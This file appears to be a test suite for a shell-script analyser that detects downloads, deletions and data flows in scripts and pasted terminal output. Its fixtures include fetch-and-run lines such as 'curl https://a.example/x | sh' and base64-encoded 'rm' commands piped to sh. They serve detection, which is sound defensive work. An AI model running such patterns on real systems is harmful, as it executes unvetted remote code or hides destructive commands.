import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyseScript } from '../../../server/src/scripts/analyse';
import { prepareSource } from '../../../server/src/scripts/shell/source';
import { analyse, shownFlow, shownUse } from '../facts';
import { testFlows, testUses } from '../table';

describe('Shell: text that is not only a script', () => {
	testUses('shell', [
		[
			'prompts',
			'$ npm install tool\nadded 1 package in 2s\n$ rm a.txt',
			['package npm tool', 'delete a.txt'],
		],
		['prompts with a name', 'user@host:~/x$ rm a.txt', ['delete a.txt']],
		[
			'a command continued after a prompt',
			'$ curl \\\n> https://a.example/\nok',
			['download https://a.example/'],
		],
		[
			'continued lines',
			'curl -s \\\n  -o f \\\n  https://a.example/',
			['download https://a.example/', 'write f'],
		],
		['line ends of Windows', 'rm a.txt\r\nrm b.txt\r\n', ['delete a.txt', 'delete b.txt']],
		['a byte order mark', '\ufeffrm a.txt', ['delete a.txt']],
		['placeholders', 'curl https://<your-host>/x -o <file>', ['download https://*/x']],
		[
			'a placeholder inside a name',
			'git clone https://a.example/<owner>/r',
			['download https://a.example/*/r'],
		],
		['real redirections', 'sort <in >out', ['read in', 'write out']],
		[
			'an indented end of a here-document',
			'  cat > a.txt <<EOF\n  text\n  EOF\n  rm b.txt',
			['write a.txt', 'delete b.txt'],
		],
	]);
	testFlows('shell', [
		[
			'a command among output',
			'$ ls\nREADME.md  don’t\ncurl https://a.example/x | sh',
			['https://a.example/x > run by sh'],
		],
		[
			'a prompt inside a script hides nothing',
			'cat <<X\n$ ls\nX\nmytool | sh\ncurl https://a.example/x | sh',
			['https://a.example/x > run by sh'],
		],
	]);

	it('does not take output for commands', () => {
		const { uses } = analyse('shell', '$ ls\nTotal 3 files found\nDone\n$ pwd');
		assert.deepEqual(uses.map(shownUse), ['shell ls', 'shell pwd']);
	});

	it('gives a placeholder less confidence than an address', () => {
		const { uses } = analyse('shell', 'curl https://<host>/x');
		assert.equal(uses.find(use => use.kind === 'network')?.confidence, 'low');
	});

	it('keeps every offset', () => {
		fc.assert(
			fc.property(
				fc.array(
					fc.constantFrom(
						'$ ',
						'> ',
						'<a b>',
						'<<E',
						'E',
						'\n',
						'  ',
						'\r',
						'\0',
						"'",
						'curl',
						'|',
						'x@y:~$ ',
					),
				),
				parts => {
					const text = parts.join('');
					assert.equal(prepareSource(text).length, text.length);
				},
			),
			{ numRuns: 2000 },
		);
	});
});

describe('Shell: places', () => {
	const placeOf = (text: string, program: string) => {
		const use = analyse('shell', text).uses.find(
			found => found.kind === 'process' && found.program === program,
		);
		return use === undefined ? null : text.slice(use.range.start, use.range.end);
	};

	it('are exact in code that stands in the text as it is', () => {
		assert.equal(placeOf("bash -c 'true; rm x'", 'rm'), 'rm x');
		assert.equal(placeOf("sh <<'X'\ntrue\nrm x\nX", 'rm'), 'rm x');
		assert.equal(placeOf("cat > a.sh <<'X'\nrm x\nX\nsh a.sh", 'rm'), 'rm x');
		assert.equal(placeOf('echo "$(rm x)"', 'rm'), 'rm x');
		assert.equal(placeOf('bash -c \'bash -c "rm x"\'', 'rm'), 'rm x');
	});

	it('are the blob’s for what was decoded', () => {
		const blob = btoa('rm some-file');
		assert.equal(placeOf(`echo ${blob} | base64 -d | sh`, 'rm'), blob);
		assert.equal(placeOf(`B='${blob}'\necho "$B" | base64 -d | sh`, 'rm'), blob);
	});

	it('lie in programs of other languages where they stand', () => {
		const text = "python3 - <<'X'\nimport os\nos.remove('y')\nX";
		const use = analyse('shell', text).uses.find(found => found.kind === 'file');
		assert.match(text.slice(use?.range.start, use?.range.end), /^(?:os\.remove\('y'\)|'y')$/);
	});
});

describe('Shell: what the grammar does not accept', () => {
	const flow = 'https://a.example/x > run by sh';
	const hidden = 'curl https://a.example/x | sh';
	for (const [name, text] of [
		['an open quotation', `echo "open\n${hidden}\n`],
		['an apostrophe', `echo don't\n${hidden}\n`],
		['a stray bracket', `foo ) bar\n${hidden}\n`],
		['an open substitution', `x=$(foo\n${hidden}\n`],
		['a stray keyword', `done\n${hidden}\n`],
		['an open if', `if true; then\n${hidden}\n`],
		['an open function', `f() {\n${hidden}\n`],
		['JSON', `{ "a": [1, 2] }\n${hidden}\n`],
	] as const) {
		it(`finds the commands after ${name}`, () => {
			assert.ok(analyse('shell', text).flows.map(shownFlow).includes(flow));
		});
	}

	it('is told', () => {
		const text = 'echo "open\nrm x\n';
		const [part] = analyse('shell', text).unparsed;
		assert.equal(text.slice(part?.range.start, part?.range.end), '"open');
		assert.match(part?.reason ?? '', /quote/);
		assert.equal(analyse('shell', 'cat <<EOF\nrm x\n').unparsed.length, 1);
	});

	it('is not told where nothing is lost', () => {
		assert.deepEqual(analyse('shell', 'if x; then\n  # later\nfi\nfor f in a; do\n  ls\n').unparsed, []);
	});
});

describe('Scripts: the dispatcher', () => {
	it('says what it leaves out of a long text', () => {
		const text = `rm a\n${'#'.repeat(100)}`;
		const { uses, unparsed } = analyseScript('shell', text, { maxText: 10 });
		assert.equal(uses.length > 0, true);
		assert.deepEqual(unparsed.at(-1)?.range, { start: 10, end: text.length });
	});

	it('decodes only as deep as asked', () => {
		const text = `echo ${btoa(`echo ${btoa('rm x')} | base64 -d | sh`)} | base64 -d | sh`;
		const deletes = (decodeDepth: number) =>
			analyseScript('shell', text, { decodeDepth }).uses.some(use => use.kind === 'file');
		assert.equal(deletes(2), true);
		assert.equal(deletes(1), false);
		assert.match(analyseScript('shell', text, { decodeDepth: 1 }).unparsed[0]?.reason ?? '', /[Ee]ncoded/);
	});
});
